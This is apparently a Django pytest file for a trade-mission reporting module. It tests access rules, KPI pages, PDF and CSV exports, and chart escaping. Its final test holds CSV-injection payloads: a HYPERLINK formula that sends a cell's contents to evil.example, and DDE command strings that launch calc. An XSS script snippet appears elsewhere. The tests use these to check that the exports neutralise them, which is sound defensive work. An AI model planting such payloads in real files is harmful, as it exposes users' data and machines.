import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from pypdf import PdfReader

from companies.tests.factories import CompanyFactory, MembershipFactory
from delegations.enums import ApplicationStatus
from delegations.tests.factories import ApplicationFactory
from meetings.enums import MeetingStatus
from meetings.tests.factories import (
    CounterpartFactory,
    MeetingFactory,
    MeetingGridFactory,
    MeetingRequestFactory,
    MeetingSlotFactory,
)
from missions.enums import MissionStatus
from missions.tests.factories import MissionFactory, SectorFactory
from reports.charts import bar_chart
from reports.enums import ReportStatus
from reports.tests.factories import MissionReportFactory

pytestmark = pytest.mark.django_db

PAGES = ["reports:report", "reports:report_pdf", "reports:report_meetings_csv",
         "reports:report_companies_csv"]  # fmt: skip
ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}


@pytest.fixture(autouse=True)
def _english_pages(client):
    """Pages in English, chosen with the switcher: the readers' saved language is French."""
    client.cookies["django_language"] = "en"


def small_mission(**kwargs):
    """One confirmed company, one held meeting, a budget: figures easy to check."""
    mission = MissionFactory(
        slug="toronto-2027",
        title="Toronto 2027",
        status=MissionStatus.COMPLETED,
        budget_planned=Decimal("10000.00"),
        budget_actual=Decimal("12100.00"),
        **kwargs,
    )
    company = CompanyFactory(name="Alpha", siret="73282932000074", size="small")
    company.sectors.set([SectorFactory(code="digital", name_fr="Numérique", name_en="Digital")])
    application = ApplicationFactory(
        mission=mission, company=company, status=ApplicationStatus.CONFIRMED
    )
    slot = MeetingSlotFactory(
        grid=MeetingGridFactory(mission=mission),
        starts_at=datetime.datetime(2027, 7, 8, 13, 0, tzinfo=datetime.UTC),
        ends_at=datetime.datetime(2027, 7, 8, 13, 30, tzinfo=datetime.UTC),
    )
    request = MeetingRequestFactory(
        application=application,
        counterpart=CounterpartFactory(mission=mission, organisation="Maple Ventures"),
        status="scheduled",
    )
    MeetingFactory(
        request=request,
        slot=slot,
        status=MeetingStatus.HELD,
        company_rating=4,
        counterpart_rating=5,
        follow_up_stage="discussion",
        leads=2,
        estimated_value=Decimal("1000.00"),
    )
    return mission


def url(name, mission):
    return reverse(name, kwargs={"slug": mission.slug})


# Who may see ------------------------------------------------------------------------


@pytest.mark.parametrize("name", PAGES)
def test_report_pages_ask_anonymous_visitors_to_log_in(client, name):
    mission = small_mission()

    response = client.get(url(name, mission))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("name", PAGES)
def test_report_pages_do_not_exist_for_a_company_of_the_delegation(client, name):
    mission = small_mission()
    member = MembershipFactory(company=mission.applications.get().company).user
    client.force_login(member)

    response = client.get(url(name, mission))

    assert response.status_code == 404


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize("role", ["staff_user", "official_user"])
def test_report_pages_are_for_staff_and_officials(client, request, name, role):
    mission = small_mission()
    client.force_login(request.getfixturevalue(role))

    response = client.get(url(name, mission), **ENGLISH)

    assert response.status_code == 200


@pytest.mark.parametrize("role", ["staff_user", "official_user"])
def test_report_of_an_unknown_mission_is_a_404(client, request, role):
    client.force_login(request.getfixturevalue(role))

    response = client.get(reverse("reports:report", kwargs={"slug": "nowhere"}))

    assert response.status_code == 404


def test_mission_page_links_to_its_report_for_the_city_only(client, staff_user, company_member):
    mission = small_mission()
    mission.status = MissionStatus.OPEN
    mission.save()
    link = f'href="{url("reports:report", mission)}"'

    client.force_login(staff_user)
    assert link in client.get(mission.get_absolute_url()).content.decode()
    client.force_login(company_member)
    assert link not in client.get(mission.get_absolute_url()).content.decode()


# The page ---------------------------------------------------------------------------


def test_report_page_shows_kpis_charts_and_a_draft_without_narrative(client, official_user):
    mission = small_mission()
    client.force_login(official_user)

    response = client.get(url("reports:report", mission), **ENGLISH)

    html = response.content.decode()
    assert response.context["report"] is None
    assert response.context["report_status"] == "Draft"
    assert "No narrative yet." in html
    kpis = response.context["kpis"]
    assert (kpis.applications_confirmed, kpis.meetings_held, kpis.leads) == (1, 1, 2)
    assert (
        '<th scope="row">Cost per confirmed company</th><td class="text-end">€12,100.00</td>'
        in html
    )
    assert '<th scope="row">Cost per meeting held</th><td class="text-end">€12,100.00</td>' in html
    assert (
        '<th scope="row">Average rating by the companies (out of 5)</th>'
        '<td class="text-end">4.00</td>' in html
    )
    assert html.count('role="img"') == 4
    assert "<title" in html and "Budget: planned and actual" in html
    assert url("reports:report_pdf", mission) in html
    assert url("reports:report_meetings_csv", mission) in html
    assert url("reports:report_companies_csv", mission) in html


def test_report_page_without_meetings_nor_budget_shows_dashes(client, staff_user):
    mission = MissionFactory(status=MissionStatus.COMPLETED)
    client.force_login(staff_user)

    response = client.get(url("reports:report", mission), **ENGLISH)

    html = response.content.decode()
    assert response.status_code == 200
    assert '<th scope="row">Cost per meeting held</th><td class="text-end">—</td>' in html
    assert '<th scope="row">Planned budget</th><td class="text-end">—</td>' in html
    assert '<th scope="row">Leads</th><td class="text-end">—</td>' in html


def test_report_page_shows_the_narrative_and_status(client, staff_user):
    mission = small_mission()
    MissionReportFactory(
        mission=mission, narrative="Great trip.\n\nFour deals.", status=ReportStatus.SUBMITTED
    )
    client.force_login(staff_user)

    response = client.get(url("reports:report", mission), **ENGLISH)

    html = response.content.decode()
    assert response.context["report_status"] == "Awaiting review"
    assert "<p>Great trip.</p>\n\n<p>Four deals.</p>" in html
    assert "No narrative yet." not in html


def test_report_page_escapes_names_in_charts(client, staff_user):
    mission = small_mission()
    mission.applications.get().company.sectors.set(
        [SectorFactory(code="evil", name_en="<script>alert(1)</script>")]
    )
    client.force_login(staff_user)

    html = client.get(url("reports:report", mission), **ENGLISH).content.decode()

    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)" in html


@pytest.mark.parametrize("count", [1, 10])
def test_report_page_queries_do_not_grow_with_the_data(
    client, staff_user, count, django_assert_num_queries
):
    mission = MissionFactory(status=MissionStatus.COMPLETED, budget_actual=Decimal("100.00"))
    MissionReportFactory(mission=mission)
    grid = MeetingGridFactory(mission=mission)
    for _ in range(count):
        MeetingFactory(
            request__application__mission=mission,
            slot=MeetingSlotFactory(grid=grid),
            status=MeetingStatus.HELD,
        )
    client.force_login(staff_user)

    # The report's own nine, and the workspace's counts.
    with django_assert_num_queries(10):
        response = client.get(url("reports:report", mission))

    assert response.context["kpis"].meetings_held == count


# The PDF and the exports ------------------------------------------------------------


def test_report_pdf_is_a_pdf_with_the_kpis(client, official_user):
    mission = small_mission()
    MissionReportFactory(
        mission=mission,
        narrative="A productive week in Ontario.",
        status=ReportStatus.APPROVED,
        reviewed_by=official_user,
        reviewed_at=timezone.now(),
    )
    client.force_login(official_user)

    response = client.get(url("reports:report_pdf", mission), **ENGLISH)

    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="report-toronto-2027.pdf"'
    reader = PdfReader(io.BytesIO(response.content))
    text = " ".join(page.extract_text() for page in reader.pages)
    assert "Report: Toronto 2027" in text
    assert "A productive week in Ontario." in text
    assert "Approved by Didier Parakian" in text
    assert "Cost per confirmed company €12,100.00" in text
    assert "Difference (actual − planned) €2,100.00" in text
    assert "Budget: planned and actual" in text


def test_report_pdf_without_pango_answers_503(client, staff_user, monkeypatch):
    import builtins

    mission = small_mission()
    real_import = builtins.__import__

    def no_weasyprint(name, *args, **kwargs):
        if name == "weasyprint":
            raise OSError("cannot load library 'libpango-1.0-0'")
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_weasyprint)
    client.force_login(staff_user)

    response = client.get(url("reports:report_pdf", mission), **ENGLISH)

    assert response.status_code == 503
    assert "The PDF cannot be made on this server" in response.content.decode()


def test_report_meetings_csv_is_exact(client, staff_user):
    mission = small_mission()
    client.force_login(staff_user)

    response = client.get(url("reports:report_meetings_csv", mission), **ENGLISH)

    assert response["Content-Disposition"] == (
        'attachment; filename="report-toronto-2027-meetings.csv"'
    )
    assert response.content.decode("utf-8") == (
        "\ufeffDay (Toronto time);Time (Toronto time);Company;Counterpart;Counterpart kind;"
        "Status;Company's rating;Counterpart's rating;Follow-up stage;Leads;"
        "Estimated value (€)\r\n"
        "2027-07-08;09:00;Alpha;Maple Ventures;Investor;Held;4;5;In discussion;2;1000.00\r\n"
    )


def test_report_companies_csv_is_exact(client, official_user):
    mission = small_mission()
    ApplicationFactory(
        mission=mission,
        company=CompanyFactory(name="Beta", siret="", size="", city="Aix"),
        status=ApplicationStatus.WAITLISTED,
    )
    ApplicationFactory(mission=mission, status=ApplicationStatus.DRAFT)
    client.force_login(official_user)

    response = client.get(url("reports:report_companies_csv", mission), **ENGLISH)

    assert response.content.decode("utf-8") == (
        "\ufeffCompany;SIRET;Sectors;Size;City;Application status;Meetings held;Leads;"
        "Estimated value (€)\r\n"
        "Alpha;73282932000074;Digital;10 to 49 employees;Marseille;Seat confirmed;1;2;1000.00\r\n"
        "Beta;;;;Aix;Waiting list;0;0;0.00\r\n"
    )


# The charts -------------------------------------------------------------------------


@pytest.mark.parametrize("values", [[], [0, 0], [0, None], [None]])
def test_a_chart_with_nothing_to_show_says_so_rather_than_drawing_empty_bars(values):
    with translation.override("en"):
        svg = bar_chart("Meetings", [(f"Row {n}", value) for n, value in enumerate(values)])

    assert "Nothing to show yet." in svg
    assert "<rect" not in svg


def test_bar_chart_is_accessible_and_escaped():
    svg = bar_chart("Deals <b>", [("A & B", 2), ("<i>", 1), ("None", None)], unit="€")

    assert svg.startswith('<svg xmlns="http://www.w3.org/2000/svg"')
    assert 'role="img"' in svg
    assert "<title" in svg and "Deals &lt;b&gt;</title>" in svg
    assert "A &amp; B" in svg and "&lt;i&gt;" in svg and "<i>" not in svg
    assert svg.count("<rect") == 2
    assert "—" in svg


# CSV injection ----------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
DDE = "+33 cmd|' /C calc'!A0"


def test_report_csvs_write_formulas_as_text(client, staff_user):
    mission = small_mission()
    Company = CompanyFactory._meta.model
    Company.objects.filter(name="Alpha").update(name=HYPERLINK, city=DDE)
    mission.counterparts.update(organisation="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(staff_user)

    companies = client.get(url("reports:report_companies_csv", mission), **ENGLISH)
    meetings = client.get(url("reports:report_meetings_csv", mission), **ENGLISH)

    company_row = companies.content.decode("utf-8-sig").split("\r\n")[1].split(";")
    assert company_row[0] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"'
    assert company_row[4] == "'+33 cmd\\|' /C calc'!A0"
    meeting_row = meetings.content.decode("utf-8-sig").split("\r\n")[1].split(";")
    assert meeting_row[2:4] == ['"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"',
                                "'@SUM(1+1)*cmd\\|' /C calc'!A0"]  # fmt: skip
